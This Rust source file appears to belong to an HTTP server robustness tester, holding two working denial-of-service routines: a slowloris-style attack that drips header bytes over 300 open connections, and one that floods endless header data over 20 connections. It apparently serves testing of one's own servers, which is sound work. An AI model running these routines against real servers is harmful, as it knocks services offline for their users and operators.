//! Heads that do not end.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, sleep, timeout};

use crate::Failure;
use crate::http::Target;
use crate::http::client::connect;
use crate::http::crowd::{Siege, Tally, crowd};

/// Sends one byte of a header field per second on each connection.
pub(super) async fn slow_heads(target: Target) -> Result<Siege, Failure> {
    let attacker = |_, tally: Tally| {
        let target = target.clone();
        async move {
            let mut stream = connect(&target).await?;
            let head = format!("POST {} HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", target.path);
            stream.write_all(head.as_bytes()).await?;
            while Instant::now() < target.until {
                stream.write_all(b"x").await?;
                sleep(Duration::from_secs(1).min(target.until - Instant::now())).await;
            }
            tally.add(true);
            Ok(stream)
        }
    };
    Ok(crowd(300, target.until, attacker).await)
}

/// Sends an endless header field as fast as the server accepts it.
pub(super) async fn endless_heads(target: Target) -> Result<Siege, Failure> {
    let chunk = bytes::Bytes::from(vec![b'x'; 64 << 10]);
    let attacker = |_, tally: Tally| {
        let (target, chunk) = (target.clone(), chunk.clone());
        async move {
            let mut stream = connect(&target).await?;
            let head = format!("POST {} HTTP/1.1\r\nHost: localhost\r\nX-Long: ", target.path);
            stream.write_all(head.as_bytes()).await?;
            for _ in 0..1024 {
                stream.write_all(&chunk).await?;
            }
            let answer = timeout(Duration::from_millis(200), stream.read_u8()).await;
            tally.add(answer.is_err());
            Ok(stream)
        }
    };
    Ok(crowd(20, target.until, attacker).await)
}
